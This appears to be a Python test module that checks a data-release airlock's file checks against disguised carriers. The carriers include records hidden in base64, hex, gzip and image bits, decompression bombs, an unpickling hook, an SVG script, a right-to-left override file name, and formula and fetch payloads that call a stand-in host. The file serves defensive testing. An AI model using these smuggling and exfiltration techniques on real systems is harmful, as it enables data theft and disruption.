"""Files that carry more than they say. With the named checks answering nothing they would go through; with the checks
they are held before a person looks."""

from __future__ import annotations

import base64
import gzip
import io
import pickle
import random
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field
from functools import cache
from typing import TYPE_CHECKING

from bench.zone_attacks.harness import Attack, Trial, answering_nothing
from dalgubeol.kinds import checks, pictures
from dalgubeol.nouns.permit import Conditions

if TYPE_CHECKING:
    import pyarrow as pa

_SAID = b"900101-1234567"
_TABLE = {"t.csv": b"area,claims\narea 1,120\narea 2,240\n"}
_PICTURE = ("images.image_findings",)
_TYPE = ("tables.file_type", "files.no_text")
_RECORDS = ("near.near_records", "raw.raw_rows")
_ANY_RECORD = (*_RECORDS, "raw.identifier_columns", "extremes.single_values", "cells.cells_below", "cells.uniform_rows")  # fmt: skip


@dataclass(frozen=True, slots=True)
class Carrier:
    id: str
    name: str
    content: bytes
    rules: tuple[str, ...]
    beside: Mapping[str, bytes] = field(default_factory=dict)
    """Other files, with which nothing is wrong."""


@cache
def source() -> pa.Table:
    """Made-up persons: a number of ten digits, an area, an age, a cost."""
    import pyarrow as pa

    people = range(600)
    return pa.table({
        "person": [f"9{i * 7919 % 10**9:09d}" for i in people], "area": [f"area {i % 12}" for i in people],
        "age": [20 + i * 37 % 61 for i in people], "cost": [10_000 + i * 104_729 % 999_983 for i in people],
    })  # fmt: skip


@cache
def _records(count: int = 12, separator: str = ",") -> str:
    rows = source().slice(40, count).to_pylist()
    return "\n".join(separator.join(str(value) for value in row.values()) for row in rows)


def _zipped(content: bytes) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("results.csv", content)
    return sink.getvalue()


def _png(hidden: bytes, side: int = 64, dark: int = 128, light: int = 129) -> bytes:
    """A picture of one grey whose bits say something: where one is set it is lighter."""
    bits = [byte >> shift & 1 for byte in hidden for shift in range(8)]
    bits += [0] * (side * side - len(bits))
    rows = b"".join(b"\0" + bytes(light if bit else dark for bit in bits[y * side : (y + 1) * side]) for y in range(side))  # fmt: skip
    return _of_chunks(side, zlib.compress(rows))


def _of_chunks(side: int, packed: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    header = side.to_bytes(4, "big") * 2 + bytes((8, 0, 0, 0, 0))
    comment = chunk(b"tEXt", b"Comment\0" + _SAID)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + comment + chunk(b"IDAT", packed) + chunk(b"IEND", b"") + _SAID  # fmt: skip


def _drawn_again(content: bytes) -> bytes:
    return pictures.drawn_again({"t.png": content})["t.png"]


def _in_low_bits(content: bytes) -> bytes:
    """What the lowest bits of a picture say."""
    from dalgubeol.methods.disclosure.images import pixels

    bits = [int(each) & 1 for each in pixels(content)[..., 0].ravel()]
    packed = (
        sum(bit << place for place, bit in enumerate(bits[at : at + 8])) for at in range(0, len(bits), 8)
    )
    return bytes(packed)


class _Opens:
    """What a pickle does to whoever opens it; never opened here."""

    def __reduce__(self) -> tuple[object, ...]:
        return print, ("opened",)


@cache
def _carriers() -> tuple[Carrier, ...]:
    table, text = _records(), _records(12, " ").encode()
    header = "person,area,age,cost\n"
    return (
        Carrier("records as a table", "t.csv", (header + table).encode(), _ANY_RECORD),
        Carrier("records under other headers", "t.csv", ("a,b,c,d\n" + table).encode(), _ANY_RECORD),
        Carrier("records in another order of columns", "t.csv", ("d,c,b,a\n" + "\n".join(",".join(reversed(r.split(","))) for r in table.split("\n"))).encode(), _ANY_RECORD),
        Carrier("records as running text", "t.txt", text, _RECORDS),
        Carrier("records as JSON", "t.json", str(source().slice(40, 12).to_pylist()).replace("'", '"').encode(), _RECORDS),
        Carrier("records in base64", "t.txt", base64.b64encode(table.encode()), _RECORDS),
        Carrier("records in hexadecimal", "t.txt", table.encode().hex().encode(), _RECORDS),
        Carrier("records packed and in base64", "t.txt", base64.b64encode(gzip.compress(table.encode())), _RECORDS),
        Carrier("identifiers in the names of columns", "t.csv", (",".join(source()["person"].to_pylist()[40:52]) + "\n" + ",".join(["700"] * 12)).encode(), (*_ANY_RECORD, "header.header_findings")),
        Carrier("a small cell", "t.csv", b"area,claims\narea 1,50\narea 2,3\n", ("cells.cells_below", "differencing.linked_in")),
        Carrier("the largest value of all", "t.csv", b"measure,value\nmax cost,1009871\nmean cost,501234\n", ("extremes.single_values",)),
        Carrier("a formula for whoever opens the table", "t.csv", b"area,claims\n\"=HYPERLINK(\"\"http://x/\"\"&A1)\",50\narea 2,60\n", ("tables.formulas",)),
        Carrier("more rows than anybody reads", "t.csv", ("n,claims\n" + "\n".join(f"group{n},{n + 50}" for n in range(20_000))).encode(), ("tables.too_many_rows", *_ANY_RECORD)),
        Carrier("a picture that is noise to the eye", "t.png", _png(gzip.compress(random.Random(1).randbytes(1 << 15)), 512, 0, 255), _PICTURE, _TABLE),
        Carrier("a picture that unpacks without end", "t.png", _of_chunks(20_000, zlib.compress(bytes(1 << 24))), _PICTURE, _TABLE),
        Carrier("a picture that draws itself", "t.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", _TYPE),
        Carrier("an archive", "t.zip", _zipped((header + table).encode()), _TYPE),
        Carrier("a bomb for whoever unpacks it", "t.zip", _zipped(bytes(1 << 20)), (*_TYPE, *_RECORDS)),
        Carrier("a packed table", "t.csv.gz", gzip.compress((header + table).encode()), (*_TYPE, *_RECORDS)),
        Carrier("an object that acts when it is opened", "t.pkl", pickle.dumps(_Opens()), (*_TYPE, "files.model_file")),
        Carrier("such an object under another name", "t.txt", pickle.dumps(_Opens(), protocol=4), ("files.model_file", "files.no_text")),
        Carrier("a notebook with its outputs", "t.ipynb", b'{"cells":[{"cell_type":"code","outputs":[{"text":"' + text[:200] + b'"}]}],"nbformat":4}', (*_TYPE, *_RECORDS)),
        Carrier("a page with a program in it", "t.html", b"<script>fetch('http://x/')</script>", _TYPE),
        Carrier("a name whose type is another", "t\u202evsc.txt", b"all is well", ("files.file_name",)),
    )  # fmt: skip


def _held(carrier: Carrier) -> bool:
    found = checks.check_files(
        {carrier.name: carrier.content, **carrier.beside}, checks.Against.of(source(), Conditions())
    )
    return any(finding["holds"] for finding in found)


def _without(carrier: Carrier, trial: Trial) -> bool:
    with answering_nothing(carrier.rules):
        return not _held(carrier)


def _attack(number: int, id_: str) -> Attack:
    return Attack(
        f"output: {id_}", "outputs", "the checks of the airlock",
        lambda trial: _without(_carriers()[number], trial), lambda trial: not _held(_carriers()[number]),
    )  # fmt: skip


_SPEAKS = (
    Attack(
        "output: a picture whose lowest bits speak", "outputs", "drawing pictures again",
        lambda trial: _in_low_bits(_png(_SAID)).startswith(_SAID),
        lambda trial: _in_low_bits(_drawn_again(_png(_SAID))).startswith(_SAID),
    ),
    Attack(
        "output: a picture with words beside its pixels", "outputs", "drawing pictures again",
        lambda trial: _SAID in _png(b""), lambda trial: _SAID in _drawn_again(_png(b"")),
    ),
)  # fmt: skip
OUTPUTS = (*(_attack(number, each.id) for number, each in enumerate(_carriers())), *_SPEAKS)
